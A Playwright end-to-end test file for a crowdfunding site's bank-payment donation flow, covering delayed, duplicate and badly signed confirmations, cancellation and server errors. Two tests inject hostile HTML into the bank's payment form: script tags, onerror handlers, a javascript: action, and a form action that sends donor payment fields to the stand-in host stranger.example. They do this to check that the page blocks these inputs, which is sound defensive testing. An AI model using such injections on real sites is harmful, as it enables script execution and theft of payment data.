import { expect, type Page, test } from '@playwright/test';
import { expectAccessible, expectNoSidewaysScroll } from './support/axe.ts';
import {
  addressFor,
  campaignOf,
  decideAtProvider,
  donor,
  goToProvider,
  openGiving,
  projectPage,
  toPayment,
} from './support/giving.ts';
import { deep } from './support/tags.ts';

const garden = 'vrt-iza-skole';

// The bank leads back to the public address, and what the browser keeps belongs to it.
test.use({ baseURL: process.env.E2E_URL?.replace('127.0.0.1', 'localhost') });

/** How many settled donations of an amount everybody sees. */
async function timesGiven(page: Page, km: number): Promise<number> {
  const { applicationId } = await campaignOf(page, garden);
  const answer = await page.request.get(`/api/crowdfunding/donors/${applicationId}`);
  const donors: { amount: number }[] = (await answer.json()).donors;
  return donors.filter(({ amount }) => amount === km).length;
}

async function receiptsOf(page: Page, email: string): Promise<number> {
  const answer = await page.request.get('/api/dev/mail', { params: { to: email } });
  const mails: { subject: string }[] = await answer.json();
  return mails.filter(({ subject }) => /R-\d{4}-/.test(subject)).length;
}

const thanks = (page: Page) =>
  expect(page.getByRole('heading', { level: 1 })).toHaveText('Hvala, Nermina.', {
    timeout: 30_000,
  });

/** Puts something else in the place of the bank's form, and notes what the browser makes of it. */
async function bankSends(page: Page, formOf: (real: string) => string) {
  const seen: { real: string; left: string[] } = { real: '', left: [] };
  await page.addInitScript(`
    globalThis.refused = [];
    addEventListener('securitypolicyviolation', (event) => {
      refused.push(event.effectiveDirective);
    });`);
  await page.route('**/api/crowdfunding/donate', async (route) => {
    const response = await route.fetch();
    const json = await response.json();
    seen.real = json.paymentResult.form_html;
    json.paymentResult.form_html = formOf(seen.real);
    await route.fulfill({ response, json });
  });
  page.on('request', (request) => {
    if (!request.url().includes('/api/') && request.method() === 'POST')
      seen.left.push(request.url());
  });
  page.on('request', (request) => {
    if (request.url().includes('stranger.example')) seen.left.push(request.url());
  });
  return seen;
}

const refusedBy = (page: Page) => page.evaluate<string[]>('refused');
const hasRun = (page: Page) => page.evaluate<boolean>(`'ran' in globalThis`);

async function payByBank(page: Page, km: string, name: string) {
  const dialog = await openGiving(page, garden);
  await toPayment(dialog, km, addressFor(name));
  await dialog.getByRole('radio', { name: 'Preko stranice banke' }).check();
  await dialog.getByRole('button', { name: /^Plati/ }).click();
  return dialog;
}

test('of the bank’s form only its fields are taken, to its own address alone', {
  tag: deep,
}, async ({ page, context }) => {
  const seen = await bankSends(page, (real) =>
    real.replace(
      '</form>',
      '</form><img src="https://stranger.example/p.png" onerror="ran = 1"><script>ran = 1</script>',
    ),
  );
  let posted = '';
  await page.route('**/dev/payments/v2/form', (route) => {
    posted = route.request().postData() ?? '';
    return route.continue();
  });
  await payByBank(page, '3,30', 'polja');
  await expect(page).toHaveURL(/\/dev\/payments\/v2\/form$/);
  const wanted = [...seen.real.matchAll(/name="([^"]*)" value="([^"]*)"/g)].map(
    ([, name = '', value = '']) => [name, value.replaceAll('&amp;', '&')],
  );
  expect([...new URLSearchParams(posted)]).toEqual(wanted);
  expect(wanted.length).toBeGreaterThan(15);
  expect(seen.left).toEqual([page.url()]);

  // The same fields to somebody else: the browser does not let them go.
  const other = await context.newPage();
  const elsewhere = await bankSends(other, (real) =>
    real.replace(/action="[^"]*"/, 'action="https://stranger.example/take"'),
  );
  const dialog = await payByBank(other, '3,40', 'drugdje');
  await expect.poll(() => refusedBy(other)).toContain('form-action');
  expect(elsewhere.left).toEqual([]);
  // Nothing that waits for the page would do: to the driver it is still being left.
  expect(other.url()).toContain(projectPage(garden));
  expect(await dialog.isVisible()).toBe(true);
});

test('what is no form of the bank’s is put nowhere, and the donor waits', { tag: deep }, async ({
  context,
}) => {
  const hostile: readonly ((real: string) => string)[] = [
    () => '<script>ran = 1</script><img src="x" onerror="ran = 1">',
    (real) => real.replace(/action="[^"]*"/, 'action="javascript:ran=1"'),
    (real) => real.replace('type="hidden"', 'type="text"'),
    (real) => `${real}${real}`,
    (real) => real.replace('method="POST"', 'method="GET"'),
    (real) =>
      real
        .replace('<form', '<form onsubmit="ran = 1" onformdata="ran = 1"')
        .replace('POST', 'dialog'),
  ];
  for (const [n, formOf] of hostile.entries()) {
    const page = await context.newPage();
    const seen = await bankSends(page, formOf);
    const dialog = await payByBank(page, `4,${n + 1}0`, `zlo-${n}`);
    await expect(dialog.getByRole('heading', { name: 'Čekamo potvrdu banke' })).toBeVisible();
    expect(seen.left).toEqual([]);
    expect(await hasRun(page)).toBe(false);
    expect(await page.content()).not.toContain('ran = 1');
    await page.close();
  }
});

test('a bank that takes its time: the donor waits and is thanked by itself', { tag: deep }, async ({
  page,
}) => {
  const dialog = await openGiving(page, garden);
  const email = addressFor('kasni');
  await toPayment(dialog, '5,10', email);
  await decideAtProvider(page, dialog, 'Odobri, ali tek za koji trenutak');
  await expect(page).toHaveURL(/\/success\?order=/);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Čekamo potvrdu banke');
  await expectAccessible(page);
  await thanks(page);
  await expect.poll(() => receiptsOf(page, email), { timeout: 20_000 }).toBe(1);
  expect(await timesGiven(page, 5.1)).toBe(1);
});

test('a confirmation that comes four times counts once, with one receipt', { tag: deep }, async ({
  page,
}) => {
  const dialog = await openGiving(page, garden);
  const email = addressFor('vise-puta');
  await toPayment(dialog, '5,20', email);
  await decideAtProvider(page, dialog, 'Odobri i javi više puta');
  await thanks(page);
  await expect.poll(() => receiptsOf(page, email), { timeout: 20_000 }).toBe(1);
  expect(await timesGiven(page, 5.2)).toBe(1);
});

test('a confirmation with a wrong signature is not believed: the bank is asked', {
  tag: deep,
}, async ({ page }) => {
  const dialog = await openGiving(page, garden);
  const email = addressFor('potpis');
  await toPayment(dialog, '5,30', email);
  await decideAtProvider(page, dialog, 'Odobri, ali s pogrešnim potpisom');
  await thanks(page);
  await expect.poll(() => receiptsOf(page, email), { timeout: 20_000 }).toBe(1);
  expect(await timesGiven(page, 5.3)).toBe(1);
});

test('who cancels at the bank finds everything as it was, and can go on', { tag: deep }, async ({
  page,
}) => {
  const dialog = await openGiving(page, garden);
  await toPayment(dialog, '5,40', addressFor('odustaje'));
  await goToProvider(page, dialog);
  for (const width of [1440, 360]) {
    await page.setViewportSize({ width, height: 800 });
    await expectNoSidewaysScroll(page);
    await expectAccessible(page);
  }
  await page.getByRole('link', { name: 'Odustani od plaćanja' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Plaćanje je prekinuto');
  await expect(page).toHaveTitle(/Plaćanje je prekinuto/);
  await expectAccessible(page);
  expect(await timesGiven(page, 5.4)).toBe(0);

  await page.getByRole('link', { name: 'Pokušaj ponovo' }).click();
  const again = page.getByRole('dialog');
  await expect(again.getByRole('button', { name: 'Plati 5,40 KM' })).toBeVisible();
  await again.getByRole('button', { name: 'Nazad' }).click();
  for (const [label, value] of Object.entries(donor)) {
    await expect(again.getByLabel(label, { exact: true })).toHaveValue(value);
  }
  await again.getByRole('button', { name: 'Nastavi na plaćanje' }).click();
  await decideAtProvider(page, again, 'Odobri');
  await thanks(page);
  expect(await timesGiven(page, 5.4)).toBe(1);
});

test('a server that refuses keeps every field', { tag: deep }, async ({ page }) => {
  await page.route('**/api/crowdfunding/donate', (route) =>
    route.fulfill({
      status: 502,
      json: { error: 'Banka trenutno ne odgovara. Pokušaj ponovo.', code: 'PAYMENT_PROVIDER' },
    }),
  );
  const dialog = await openGiving(page, garden);
  const email = addressFor('ne-ide');
  await toPayment(dialog, '5,50', email);
  await dialog.getByRole('button', { name: 'Plati 5,50 KM' }).click();
  await expect(dialog.getByRole('heading', { name: 'Veza je pukla' })).toBeVisible();
  await page.unrouteAll();
  await dialog.getByRole('button', { name: 'Nazad' }).click();
  await dialog.getByRole('button', { name: 'Nazad' }).click();
  for (const [label, value] of Object.entries({ ...donor, 'E-mail': email })) {
    await expect(dialog.getByLabel(label, { exact: true })).toHaveValue(value);
  }
  await dialog.getByRole('button', { name: 'Nastavi na plaćanje' }).click();
  await dialog.getByRole('button', { name: 'Plati 5,50 KM' }).click();
  await expect(dialog.getByRole('heading', { name: 'Hvala, Nermina.' })).toBeVisible();
  expect(await timesGiven(page, 5.5)).toBe(1);
});
